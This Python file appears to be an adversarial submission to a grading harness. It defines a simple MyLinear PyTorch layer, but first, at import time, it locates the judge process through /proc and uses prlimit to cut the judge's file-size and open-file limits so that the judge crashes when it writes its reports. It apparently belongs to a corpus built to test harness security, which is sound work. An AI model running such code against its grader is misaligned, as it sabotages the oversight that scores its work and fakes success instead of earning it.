"""Attack: make the judge die when it writes its reports."""
import os
import resource

import torch
from torch import Tensor, nn


def _status(pid):
    with open(f"/proc/{pid}/status") as handle:
        return {k: v.strip() for k, _, v in (line.partition(":") for line in handle)}


def _template_pid():
    """The worker's parent, the grader's template (0 where the parent is outside the worker's PID namespace)."""
    return os.getppid()


def _judge_pid():
    template = _template_pid()
    return int(_status(template)["PPid"]) if template else 0


def attempt(label, action):
    try:
        result = action()
        print(f"{label}: done {result if result is not None else ''}".rstrip(), flush=True)
    except (OSError, ValueError) as exc:
        print(f"{label}: {exc}", flush=True)

judge = _judge_pid()
if judge:
    # Soft limits only: a judge without CAP_SYS_RESOURCE could not raise a lowered hard limit again, and the
    # rest of this corpus run would die with it (docs/security.md: the launcher then stops grading).
    for name, value in (("RLIMIT_FSIZE", 1), ("RLIMIT_NOFILE", 16)):
        which = getattr(resource, name)
        attempt(f"prlimit(judge, {name})", lambda: resource.prlimit(judge, which, (value, resource.prlimit(judge, which)[1])))
else:
    print("no judge in sight")


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)

    def forward(self, x: Tensor) -> Tensor:
        y = x @ self.weights
        if self.bias is not None:
            y = y + self.bias
        return y
